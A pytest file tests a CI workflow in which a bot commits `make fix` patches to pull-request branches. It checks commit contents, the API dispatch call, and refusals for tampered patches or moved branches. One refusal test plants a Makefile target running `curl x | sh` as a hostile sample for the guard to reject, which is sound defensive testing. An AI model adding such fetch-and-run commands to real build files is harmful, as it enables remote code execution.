"""The bot commits `make fix` to a pull request's branch (pr.yml, jobs check and commit-fix).

End to end with real git: a bare repository is the remote, an editor's branch renames a page,
the check job's own `run:` lines make the patch (a real `make fix`), and the commit-fix job's own
`run:` line (the base branch's iopguide/fixcommit.py) commits and pushes it, then asks a real
HTTP server on 127.0.0.1, standing in for GitHub's API, to run the workflow again. A patch that
touches another file, or a branch that moved, is refused and the branch is left as it was.
"""

from __future__ import annotations

import json
import os
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from iopguide import ROOT
from tests.site.test_check import run, runnable_copy

pytestmark = pytest.mark.slow

WHO = ["-c", "user.name=Editor", "-c", "user.email=editor@example.org"]
WORKFLOW = yaml.safe_load((ROOT / ".github" / "workflows" / "pr.yml").read_text())


def git(cwd: Path, *args: str) -> str:
    result = run(["git", *args], cwd)
    assert result.returncode == 0, (args, result.stderr)
    return result.stdout.strip()


@contextmanager
def fake_github_api(status: int = 204) -> Iterator[tuple[str, list[dict]]]:
    """A real HTTP server that records each request and answers 204, as GitHub's dispatch."""
    calls: list[dict] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length", 0))
            calls.append(
                {
                    "path": self.path,
                    "auth": self.headers.get("Authorization"),
                    "body": json.loads(self.rfile.read(length)),
                }
            )
            self.send_response(status)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", calls
    finally:
        server.shutdown()
        server.server_close()


def step_env(step: dict, values: dict[str, str]) -> dict[str, str]:
    env = {}
    for key, value in (step.get("env") or {}).items():
        env[key] = values[key] if "${{" in str(value) else str(value)
    return env


@pytest.fixture
def pull_request(tmp_path: Path) -> dict[str, Path | str]:
    """An editor's branch `rename-faq` in a bare remote: docs/faq.md renamed, nothing else."""
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(remote))
    editor = runnable_copy(tmp_path / "editor")
    # As in the repository; and the copy's .venv is a link, which '/.venv/' does not match.
    (editor / ".gitignore").write_text((ROOT / ".gitignore").read_text() + "/.venv\n")
    git(editor, "init", "-q", "-b", "main")
    git(editor, *WHO, "add", "-A")
    git(editor, *WHO, "commit", "-qm", "base")
    git(editor, "remote", "add", "origin", str(remote))
    git(editor, "push", "-q", "origin", "main")
    git(editor, "checkout", "-qb", "rename-faq")
    git(editor, "mv", "docs/faq.md", "docs/common-questions.md")
    git(editor, *WHO, "commit", "-qm", "Rename the FAQ page")
    git(editor, "push", "-q", "origin", "rename-faq")
    head = git(editor, "rev-parse", "HEAD")

    # The check job's workspace: a clone of the pull request (with .venv, as after install).
    ci = tmp_path / "ci"
    git(tmp_path, "clone", "-q", "-b", "rename-faq", str(remote), str(ci))
    (ci / ".venv").symlink_to(ROOT / ".venv")
    for name in ("Makefile", "requirements.txt", "pyproject.toml"):
        os.utime(ci / name, ns=(0, (ROOT / name).stat().st_mtime_ns))
    home = tmp_path / "home"
    home.mkdir()
    return {"remote": remote, "ci": ci, "head": head, "home": home, "tmp": tmp_path}


def run_make_fix_step(pr: dict) -> None:
    """The check job's `make fix` step, as the workflow runs it."""
    step = next(s for s in WORKFLOW["jobs"]["check"]["steps"] if s.get("id") == "fix")
    summary = pr["tmp"] / "summary.md"
    output = pr["tmp"] / "output"
    env = step_env(step, {"FIX_BASE": "origin/main", "SAME_REPO": "true"})
    result = run(
        step["run"],
        pr["ci"],
        GITHUB_ACTIONS="true",
        GITHUB_STEP_SUMMARY=str(summary),
        GITHUB_OUTPUT=str(output),
        GITHUB_WORKSPACE=str(pr["ci"]),
        HOME=str(pr["home"]),
        **env,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert output.read_text() == "changed=true\n"
    assert "The bot commits this change to your branch" in summary.read_text()


def run_commit_step(pr: dict, api: str, patch_dir: Path) -> tuple[int, str]:
    """The commit-fix job: the base branch's script (this checkout, as `base/`), the artifact
    as `make-fix/`, the job's own `run:` line and `env:`."""
    job = WORKFLOW["jobs"]["commit-fix"]
    step = job["steps"][-1]
    work = pr["tmp"] / "commit-job"
    if work.exists():
        shutil.rmtree(work)
    work.mkdir()
    (work / "base").symlink_to(ROOT)  # the base branch's checkout
    shutil.copytree(patch_dir, work / "make-fix")
    env = step_env(
        step,
        {
            "GITHUB_TOKEN": "token-for-the-test",
            "REMOTE": str(pr["remote"]),
            "HEAD_REF": "rename-faq",
            "HEAD_SHA": str(pr["head"]),
        },
    )
    summary = pr["tmp"] / "commit-summary.md"
    result = run(
        " ".join(step["run"].split()),
        work,
        GITHUB_API_URL=api,
        GITHUB_REPOSITORY="iop-guide/iop-guide",
        GITHUB_STEP_SUMMARY=str(summary),
        HOME=str(pr["home"]),
        **env,
    )
    return result.returncode, result.stdout + result.stderr + summary.read_text()


def test_the_bot_commits_make_fix_and_runs_the_checks_again(pull_request: dict) -> None:
    pr = pull_request
    run_make_fix_step(pr)
    with fake_github_api() as (api, calls):
        status, out = run_commit_step(pr, api, pr["ci"] / "make-fix")

    assert status == 0, out
    remote = pr["remote"]
    tip = git(remote, "rev-parse", "refs/heads/rename-faq")
    assert git(remote, "rev-parse", f"{tip}^") == pr["head"]  # one commit on top, no force
    log = git(remote, "log", "-1", "--format=%an <%ae>%n%B", tip)
    assert log.startswith(
        "github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>\n"
        "make fix: redirect for renamed page faq.md -> common-questions.md"
    ), log
    assert "- published-urls.txt: added /common-questions/" in log
    changed = git(remote, "diff", "--name-only", pr["head"], tip).splitlines()
    assert "mkdocs.yml" in changed and "published-urls.txt" in changed
    assert all(f in {"mkdocs.yml", "published-urls.txt"} or f.startswith("docs/") for f in changed)
    # The translation is renamed with its page (make fix stages it; the bot commits the rename).
    renamed = git(remote, "diff", "-M", "--name-status", "--diff-filter=R", pr["head"], tip)
    assert renamed.split("\t")[1:] == ["docs/faq.es.md", "docs/common-questions.es.md"], renamed
    assert "- docs/faq.es.md -> docs/common-questions.es.md" in log
    config = git(remote, "show", f"{tip}:mkdocs.yml")
    assert "        faq.md: common-questions.md\n" in config + "\n"
    assert f"committed to your branch\n\nThe bot added commit `{tip[:12]}`" in out
    assert calls == [
        {
            "path": "/repos/iop-guide/iop-guide/actions/workflows/pr.yml/dispatches",
            "auth": "Bearer token-for-the-test",
            "body": {"ref": "rename-faq"},
        }
    ]

    # The branch as the bot left it passes `make check`.
    after = pr["tmp"] / "after"
    git(pr["tmp"], "clone", "-q", "-b", "rename-faq", str(remote), str(after))
    (after / ".venv").symlink_to(ROOT / ".venv")
    for name in ("Makefile", "requirements.txt", "pyproject.toml"):
        os.utime(after / name, ns=(0, (ROOT / name).stat().st_mtime_ns))
    checked = run(["make", "check"], after)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_a_patch_that_touches_another_file_is_refused(pull_request: dict) -> None:
    pr = pull_request
    run_make_fix_step(pr)
    ci = pr["ci"]
    # A pull request whose own code made `make fix` also change the Makefile.
    (ci / "Makefile").write_text((ci / "Makefile").read_text() + "\nevil:\n\tcurl x | sh\n")
    (ci / "make-fix" / "fix.patch").write_text(git(ci, "diff") + "\n")
    with fake_github_api() as (api, calls):
        status, out = run_commit_step(pr, api, ci / "make-fix")

    assert status == 1
    assert "error: nothing committed: the patch changes Makefile, which make fix never" in out
    assert git(pr["remote"], "rev-parse", "refs/heads/rename-faq") == pr["head"]
    assert calls == []


def test_a_branch_that_moved_is_left_alone(pull_request: dict) -> None:
    pr = pull_request
    run_make_fix_step(pr)
    editor = pr["tmp"] / "editor"
    (editor / "docs" / "index.md").write_text((editor / "docs" / "index.md").read_text() + "\n")
    git(editor, *WHO, "commit", "-qam", "Another edit")
    git(editor, "push", "-q", "origin", "rename-faq")
    moved = git(editor, "rev-parse", "HEAD")
    with fake_github_api() as (api, calls):
        status, out = run_commit_step(pr, api, pr["ci"] / "make-fix")

    assert status == 1
    assert "the branch rename-faq moved since the check ran" in out
    assert git(pr["remote"], "rev-parse", "refs/heads/rename-faq") == moved
    assert calls == []


def test_a_refused_new_run_is_said_and_the_commit_stays(pull_request: dict) -> None:
    pr = pull_request
    run_make_fix_step(pr)
    # GitHub's API answers 404 (say, the token may not start workflows).
    with fake_github_api(status=404) as (api, calls):
        status, out = run_commit_step(pr, api, pr["ci"] / "make-fix")

    assert status == 1 and len(calls) == 1
    tip = git(pr["remote"], "rev-parse", "refs/heads/rename-faq")
    assert git(pr["remote"], "rev-parse", f"{tip}^") == pr["head"]
    assert "error: committed, but the checks did not start again: GitHub refused" in out
    assert "The checks did not start again on the bot's commit" in out
    assert "### make fix: not committed" not in out
